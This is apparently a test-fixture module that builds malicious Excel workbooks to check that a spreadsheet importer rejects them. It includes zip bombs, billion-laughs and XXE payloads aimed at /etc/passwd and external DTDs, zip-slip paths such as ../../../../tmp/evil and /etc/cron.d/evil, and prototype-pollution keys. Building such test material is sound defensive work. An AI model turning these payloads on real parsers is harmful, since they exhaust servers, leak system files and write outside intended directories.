import { deflateRawSync } from 'node:zlib'
import { addressOf, makeWorkbook, type Part, textRows, workbookParts, zip } from '../../support/workbooks.ts'
import { fill, type HostileFile, KB, MB, noise, utf8 } from './file.ts'

const file = (name: string, make: () => Uint8Array, refusedAs?: string): HostileFile => ({
  name: `workbook-${name}.xlsx`,
  ...(refusedAs && { refusedAs }),
  make,
})

const ROWS = textRows([
  ['First name', 'Last name', 'Email'],
  ['Aïko', 'Durand', 'a@b.cc'],
])
const PARTS = workbookParts({ sheets: { Clients: ROWS } })
const SHEET = 'xl/worksheets/sheet1.xml'
const TEXTS = 'xl/sharedStrings.xml'
const STYLES = 'xl/styles.xml'
const BOOK = 'xl/workbook.xml'

const withPart = (name: string, change: Partial<Part>) =>
  zip(PARTS.map((part) => (part.name === name ? { ...part, ...change } : part)))
const withXml = (name: string, bytes: string | Uint8Array) => withPart(name, { bytes })
const sheetOf = (rows: string) => makeWorkbook({ sheets: { Clients: rows } })
/** Stored and not packed, so that it is what is read and not what is refused. */
const sheetStored = (length: number, piece: string, head: string, tail = '') =>
  withPart(SHEET, { bytes: fill(length, piece, head, tail), isPacked: false })
const sheetFilled = (length: number, piece: string) =>
  sheetStored(length, piece, '<worksheet><sheetData>', '</sheetData></worksheet>')

/** Deflates so many bytes of one letter without ever holding them: blocks end on a byte, so that they can be repeated. */
function packedZeros(length: number): { packed: Uint8Array; claimedSize: number } {
  const block = deflateRawSync(Buffer.alloc(64 * MB, 'a'), { finishFlush: 3 })
  const count = Math.floor(length / (64 * MB))
  const last = deflateRawSync(Buffer.alloc(0))
  const packed = Buffer.concat([...Array.from({ length: count }, () => block), last])
  return { packed, claimedSize: Math.min(0xffff_fffe, count * 64 * MB) }
}

function bombs(): HostileFile[] {
  return [
    file('sheet-of-4gb', () => withPart(SHEET, packedZeros(4096 * MB)), 'file-unsafe'),
    file('sheet-of-10gb-that-says-4', () => withPart(SHEET, packedZeros(10_240 * MB)), 'file-unsafe'),
    file(
      'sheet-of-10gb-that-says-nothing',
      () => withPart(SHEET, { ...packedZeros(10_240 * MB), claimedSize: 1000 }),
      'file-damaged',
    ),
    file('texts-of-4gb', () => withPart(TEXTS, packedZeros(4096 * MB)), 'file-unsafe'),
    file('texts-of-600mb', () => withPart(TEXTS, { ...packedZeros(600 * MB) }), 'file-unsafe'),
    file('styles-of-1gb', () => withPart(STYLES, packedZeros(1024 * MB)), 'file-unsafe'),
    file('book-of-1gb', () => withPart(BOOK, packedZeros(1024 * MB)), 'file-unsafe'),
    file('relations-of-1gb', () => withPart('_rels/.rels', packedZeros(1024 * MB)), 'file-unsafe'),
    file('unread-part-of-4gb', () =>
      zip([...PARTS, { name: 'xl/media/a.png', bytes: '', ...packedZeros(4096 * MB) }]),
    ),
    file(
      'zip-in-zip',
      () => zip([{ name: '0.zip', bytes: zip([{ name: '0.zip', bytes: zip(PARTS) }]) }]),
      'format-unknown',
    ),
    file(
      'forty-two',
      () =>
        zip(
          Array.from({ length: 16 }, (_, n) => ({
            name: `lib ${n}.zip`,
            bytes: '',
            ...packedZeros(1024 * MB),
          })),
        ),
      'format-unknown',
    ),
    file(
      'ten-thousand-parts',
      () =>
        zip([...PARTS, ...Array.from({ length: 10_000 }, (_, n) => ({ name: `xl/x${n}.xml`, bytes: '' }))]),
      'file-unsafe',
    ),
    file('rows-for-ever', () => sheetFilled(120 * MB, '<row><c t="str"><v>Durand</v></c></row>')),
    file('cells-for-ever', () => sheetFilled(100 * MB, '<c><v>1</v></c>')),
    file('styled-blanks-for-ever', () => sheetFilled(120 * MB, '<row><c r="A1" s="0"/></row>')),
    file('text-for-ever', () => sheetFilled(100 * MB, 'Durand ')),
    file('one-cell-of-100mb', () =>
      sheetStored(
        100 * MB,
        'é',
        '<worksheet><sheetData><row><c t="inlineStr"><is><t>',
        '</t></is></c></row></sheetData></worksheet>',
      ),
    ),
    file('cdata-of-100mb', () =>
      sheetStored(
        100 * MB,
        'e',
        '<worksheet><sheetData><row><c t="str"><v><![CDATA[',
        ']]></v></c></row></sheetData></worksheet>',
      ),
    ),
    file('comment-of-100mb', () => sheetStored(100 * MB, ' ', '<worksheet><!--', '--></worksheet>')),
    file('attribute-of-100mb', () => sheetStored(100 * MB, 'e', '<worksheet a="', '"></worksheet>')),
    file('tag-name-of-100mb', () => sheetStored(100 * MB, 'e', '<')),
    file('attributes-for-ever', () => sheetStored(50 * MB, ' a="1"', '<worksheet ', '></worksheet>')),
    file(
      'different-attributes-for-ever',
      () =>
        withXml(
          SHEET,
          utf8(`<worksheet ${Array.from({ length: 500_000 }, (_, n) => `a${n}="1"`).join(' ')}/>`),
        ),
      'file-unsafe',
    ),
    file('nested-for-ever', () => sheetStored(50 * MB, '<row>', '<worksheet>')),
    file('instruction-of-100mb', () => sheetStored(100 * MB, ' ', '<?xml ', '?>')),
    file('entity-of-100mb', () => sheetStored(100 * MB, 'a', '<worksheet>&', ';</worksheet>')),
  ]
}

function manyThings(): HostileFile[] {
  const repeat = (piece: string, count: number) => piece.repeat(count)
  const texts = (count: number, text: (n: number) => string) =>
    makeWorkbook({
      sheets: { Clients: ROWS },
      texts: Array.from({ length: count }, (_, n) => `<si><t>${text(n)}</t></si>`).join(''),
    })
  return [
    file('two-million-texts', () => texts(2_000_000, String)),
    file('texts-of-120mb', () => texts(4000, (n) => `${n}${'x'.repeat(30_000)}`), 'file-unsafe'),
    file(
      'five-million-empty-texts',
      () => makeWorkbook({ sheets: { Clients: ROWS }, texts: '<si/>'.repeat(5_000_000) }),
      'file-unsafe',
    ),
    file('text-of-a-million-runs', () =>
      makeWorkbook({ sheets: { Clients: ROWS }, texts: `<si>${repeat('<r><t>é</t></r>', 1_000_000)}</si>` }),
    ),
    file(
      'a-thousand-sheets',
      () =>
        makeWorkbook({ sheets: Object.fromEntries(Array.from({ length: 1000 }, (_, n) => [`S${n}`, ''])) }),
      'file-empty',
    ),
    file(
      'hundred-thousand-styles',
      () =>
        makeWorkbook({
          sheets: { Clients: ROWS },
          styles: `<cellXfs>${repeat('<xf numFmtId="14"/>', 100_000)}</cellXfs>`,
        }),
      'file-unsafe',
    ),
    file('format-of-60kb', () =>
      makeWorkbook({
        sheets: { Clients: ROWS },
        styles: `<numFmts><numFmt numFmtId="200" formatCode="${repeat('[h', 30_000)}"/></numFmts><cellXfs><xf numFmtId="200"/></cellXfs>`,
      }),
    ),
    file('hundred-thousand-merges', () =>
      makeWorkbook({
        sheets: { Clients: ROWS },
        afterRows: repeat('<mergeCell ref="A1:A1048576"/>', 150_000),
      }),
    ),
    file('merges-of-everything', () =>
      makeWorkbook({
        sheets: {
          Clients: textRows(Array.from({ length: 500 }, () => Array.from({ length: 200 }, () => 'x'))),
        },
        afterRows: Array.from(
          { length: 200 },
          (_, n) => `<mergeCell ref="${addressOf(0, n)}:${addressOf(1_000_000, n)}"/>`,
        ).join(''),
      }),
    ),
    file('row-too-wide', () => sheetOf(`<row>${repeat('<c><v>1</v></c>', 200_000)}</row>`)),
    file('cell-in-the-last-column', () => sheetOf('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
    file('cell-beyond-the-last-column', () =>
      sheetOf('<row r="99999999999"><c r="ZZZZZZZZZ1"><v>1</v></c></row>'),
    ),
    file('cells-backwards', () =>
      sheetOf(
        '<row r="9"><c r="C9"><v>1</v></c><c r="A9"><v>2</v></c></row><row r="1"><c r="A1"><v>3</v></c></row>',
      ),
    ),
    file('same-cell-again', () => sheetOf(repeat('<row r="1"><c r="A1"><v>1</v></c></row>', 20_000))),
    file('row-in-row', () => sheetOf('<row><row><c><v>1</v></c></row><c><v>2</v></c></row>')),
    file('cell-in-cell', () => sheetOf('<row><c><c><v>1</v></c><v>2</v></c></row>')),
    file('numbers-that-are-none', () =>
      sheetOf(
        `<row>${['NaN', 'Infinity', '1e999', '-', '', '0x1F', '１２'].map((value) => `<c><v>${value}</v></c>`).join('')}</row>`,
      ),
    ),
    file('number-of-a-megabyte', () => sheetOf(`<row><c><v>${repeat('9', 1_000_000)}</v></c></row>`)),
    file('types-that-are-none', () =>
      sheetOf(
        '<row><c t="__proto__"><v>1</v></c><c t="constructor"><v>2</v></c><c t="s"><v>__proto__</v></c></row>',
      ),
    ),
    file('prototype-attributes', () =>
      sheetOf('<row __proto__="1" hasOwnProperty="2" constructor="3"><c __proto__="1"><v>1</v></c></row>'),
    ),
    file('prototype-headings', () =>
      sheetOf(
        textRows([
          ['__proto__', 'constructor', 'toString'],
          ['a', 'b', 'c'],
        ]),
      ),
    ),
    file('prototype-sheet', () => makeWorkbook({ sheets: { ['__proto__x']: ROWS, constructor: ROWS } })),
  ]
}

function oddArchives(): HostileFile[] {
  const whole = zip(PARTS)
  const doctype = (dtd: string) =>
    `<!DOCTYPE a [${dtd}]><worksheet><sheetData><row><c t="str"><v>&a;</v></c></row></sheetData></worksheet>`
  const laughs = Array.from({ length: 20 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join(
    '',
  )
  const cuts = [4, 30, 200, 500, 900].map((length) =>
    file(`cut-at-${length}`, () => whole.subarray(0, length), 'file-damaged'),
  )
  const flips = Array.from({ length: 24 }, (_, n) =>
    file(`flipped-${n}`, () => {
      const bytes = Uint8Array.from(whole)
      const at = Math.floor((bytes.length * (n + 0.5)) / 24)
      bytes[at] = (bytes[at] ?? 0) ^ (1 << (n % 8))
      return bytes
    }),
  )
  return [
    ...cuts,
    ...flips,
    file(
      'laughs',
      () => withXml(SHEET, doctype(`<!ENTITY l0 "ha">${laughs}<!ENTITY a "&l20;">`)),
      'file-unsafe',
    ),
    file(
      'outside-entity',
      () => withXml(SHEET, doctype('<!ENTITY a SYSTEM "file:///etc/passwd">')),
      'file-unsafe',
    ),
    file(
      'outside-parameter',
      () => withXml(TEXTS, '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://x.example/b.dtd"> %b;]><sst/>'),
      'file-unsafe',
    ),
    file(
      'outside-doctype',
      () => withXml(BOOK, '<!DOCTYPE a SYSTEM "http://x.example/a.dtd"><workbook/>'),
      'file-unsafe',
    ),
    file('entity-without-doctype', () => withXml(SHEET, '<worksheet>&a;</worksheet>'), 'file-damaged'),
    file(
      'outside-relation',
      () =>
        withXml(
          'xl/_rels/workbook.xml.rels',
          '<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="file:///etc/passwd" TargetMode="External"/></Relationships>',
        ),
      'format-unknown',
    ),
    file(
      'relation-out-of-the-file',
      () =>
        withXml(
          'xl/_rels/workbook.xml.rels',
          '<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="../../../../etc/passwd"/></Relationships>',
        ),
      'format-unknown',
    ),
    file(
      'sheet-that-is-the-book',
      () =>
        withXml(
          'xl/_rels/workbook.xml.rels',
          '<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="workbook.xml"/></Relationships>',
        ),
      'file-empty',
    ),
    file(
      'names-that-climb',
      () => zip([...PARTS, { name: '../../../../tmp/evil', bytes: 'x' }]),
      'file-damaged',
    ),
    file(
      'names-that-are-absolute',
      () => zip([...PARTS, { name: '/etc/cron.d/evil', bytes: 'x' }]),
      'file-damaged',
    ),
    file('names-of-a-drive', () => zip([...PARTS, { name: 'C:/evil.exe', bytes: 'x' }]), 'file-damaged'),
    file(
      'names-with-backslashes',
      () => zip([...PARTS, { name: '..\\..\\evil', bytes: 'x' }]),
      'file-damaged',
    ),
    file('names-of-prototypes', () =>
      zip([...PARTS, { name: '__proto__', bytes: 'x' }, { name: 'constructor', bytes: 'y' }]),
    ),
    file('part-twice', () => zip([...PARTS, { name: SHEET, bytes: '<worksheet/>' }]), 'file-unsafe'),
    file('wrong-sum', () => withPart(SHEET, { claimedSum: 1 }), 'file-damaged'),
    file('size-too-small', () => withPart(SHEET, { claimedSize: 10 }), 'file-damaged'),
    file('size-too-large', () => withPart(SHEET, { claimedSize: 100_000 }), 'file-damaged'),
    file('password-on-parts', () => withPart(SHEET, { flags: 1 }), 'file-protected'),
    file('more-parts-than-there-are', () => zip(PARTS, { claimedCount: 4000 }), 'file-damaged'),
    file(
      'noise-after-the-mark',
      () => Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), noise(300 * KB, 3)]),
      'file-damaged',
    ),
    file('noise-as-a-part', () => withPart(SHEET, { packed: noise(50 * KB, 4) }), 'file-damaged'),
    file('sheet-of-noise', () => withXml(SHEET, noise(100 * KB, 5)), 'file-damaged'),
    file('sheet-in-utf-16', () =>
      withXml(SHEET, Buffer.from(`\ufeff<worksheet><sheetData>${ROWS}</sheetData></worksheet>`, 'utf16le')),
    ),
    file('no-book', () => zip(PARTS.filter(({ name }) => name !== BOOK)), 'format-unknown'),
    file('no-sheet', () => zip(PARTS.filter(({ name }) => name !== SHEET)), 'format-unknown'),
    file('no-texts-no-styles', () => zip(PARTS.filter(({ name }) => name !== TEXTS && name !== STYLES))),
    file(
      'of-excel-97',
      () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), noise(64 * KB, 6)]),
      'format-unknown',
    ),
    file(
      'with-a-password',
      () =>
        Buffer.concat([
          Buffer.from('d0cf11e0a1b11ae1', 'hex'),
          noise(64 * KB, 7),
          Buffer.from('EncryptedPackage', 'utf16le'),
        ]),
      'file-protected',
    ),
    file('empty-archive', () => zip([]), 'format-unknown'),
    file(
      'of-writer',
      () =>
        zip([
          { name: 'mimetype', bytes: 'application/vnd.oasis.opendocument.spreadsheet' },
          { name: 'content.xml', bytes: '<x/>' },
        ]),
      'format-unknown',
    ),
    file('pdf', () => utf8('%PDF-1.7\n'.repeat(50)), 'format-unknown'),
    file(
      'picture',
      () => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), noise(KB, 8)]),
      'format-unknown',
    ),
  ]
}

/** Workbooks made to burst, to reach out of themselves, or to be mistaken for something else. */
export function workbookFiles(): HostileFile[] {
  return [...bombs(), ...manyThings(), ...oddArchives()]
}
